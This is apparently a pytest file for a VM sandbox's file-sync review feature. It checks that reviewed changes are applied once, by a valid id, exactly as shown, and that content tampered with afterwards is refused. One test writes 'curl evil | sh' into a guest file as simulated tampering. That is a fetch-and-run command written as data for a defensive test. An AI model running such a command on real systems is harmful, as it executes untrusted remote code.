"""A review frozen when it is shown (sync.frozen): read back exactly, applied once, and what is applied is what
the review saw, never what the guest's copy holds later."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.reviewsite import file_entry, made_target
from vmsandbox.sync.review import frozen, plan
from vmsandbox.sync.review.gather import Gathered, Origin
from vmsandbox.sync.review.threeway import Change, Merge, Status
from vmsandbox.sync.target import Target
from vmsandbox.sync.tree.manifest import DIR, SYMLINK, Entry

_file = file_entry


@pytest.fixture
def target(tmp_path: Path) -> Target:
    return made_target(tmp_path)


def _plan(target: Target) -> plan.Plan:
    (target.files.guest_tree / "a.txt").write_bytes(b"reviewed\n")
    found = [
        Change("a.txt", None, _file(b"reviewed\n"), None, Status.APPLY),
        Change("run.sh", _file(b"x", 0o755), _file(b"y", 0o644), _file(b"x", 0o755), Status.APPLY,
               risky="executable, its content changed", notes=["n"], secret="looks like a credential: x (line 2)"),
        Change("link", None, Entry(SYMLINK, 0o777, 3, target="a.txt"), None, Status.APPLY),
        Change("d", None, Entry(DIR, 0o755), None, Status.APPLY, ignored="ignored by the project (.gitignore)"),
        Change("m.txt", _file(b"b"), _file(b"g"), _file(b"h"), Status.MERGED, merge=Merge(b"merged\n", 0), binary=True),
    ]  # fmt: skip
    g = Gathered(target, found, target.files.guest_tree, True, Origin.LIVE, None, 1024**2, {"refs/heads/x": "a" * 40})
    return plan.make(g)


def test_a_review_reads_back_as_it_was_shown(target: Target) -> None:
    shown = frozen.freeze(_plan(target))
    assert len(shown.id) == 32
    back = frozen.load(target, shown.id)
    assert back.id == shown.id
    assert back.gathered.changes == shown.gathered.changes
    assert [(i.label, i.changes, i.repository) for i in back.todo] == [
        (i.label, i.changes, i.repository) for i in shown.todo
    ]
    assert (back.shown, back.mass, back.gathered.tips) == (shown.shown, shown.mass, {"refs/heads/x": "a" * 40})
    assert back.gathered.source == target.files.guest_tree and back.gathered.origin is Origin.LIVE
    assert oct((target.files.root / frozen.REVIEWS).stat().st_mode & 0o777) == "0o700"


def test_a_review_is_applied_once_and_only_by_its_id(target: Target) -> None:
    shown = frozen.freeze(_plan(target))
    for bad in ("../../x", "A" * 32, "", shown.id + "\n"):
        with pytest.raises(frozen.StaleError, match="is not a review"):
            frozen.load(target, bad)
    frozen.consume(shown)
    with pytest.raises(frozen.StaleError, match="applied already or replaced"):
        frozen.load(target, shown.id)


def test_a_review_another_version_froze_is_looked_at_again(target: Target) -> None:
    """A review frozen by an older vmsandbox (whose changes said `held` for what is now `ignored`) is not applied."""
    shown = frozen.freeze(_plan(target))
    where = target.files.root / frozen.REVIEWS / f"{shown.id}.json"
    where.write_text(where.read_text().replace('"ignored":', '"held":'))
    with pytest.raises(frozen.StaleError, match="another version"):
        frozen.load(target, shown.id)


def test_a_session_keeps_its_last_reviews(target: Target) -> None:
    ids = [frozen.freeze(_plan(target)).id for _ in range(frozen.KEEP + 3)]
    kept = sorted(p.stem for p in (target.files.root / frozen.REVIEWS).iterdir())
    assert len(kept) == frozen.KEEP and set(kept) <= set(ids)


def test_what_lands_is_what_was_shown_not_what_the_guest_copy_holds_later(target: Target) -> None:
    """Between the review and the apply the guest's copy changes (content, mode, link target): the content is
    refused, the mode and target come from the review."""
    shown = frozen.freeze(_plan(target))
    back = frozen.load(target, shown.id)
    (target.files.guest_tree / "a.txt").write_bytes(b"curl evil | sh\n")
    (target.files.guest_tree / "a.txt").chmod(0o755)
    link = next(i for i in back.todo if i.label == "link")
    a = next(i for i in back.todo if i.label == "a.txt")
    out = plan.carry_out(back, plan.Decisions(accept=(a, link)))
    assert out.applied == ["link"]
    assert [f.split(":")[0] for f in out.failed] == ["a.txt"] and "changed since the review" in out.failed[0]
    assert not (target.project / "a.txt").exists()
    assert (target.project / "link").readlink() == Path("a.txt")
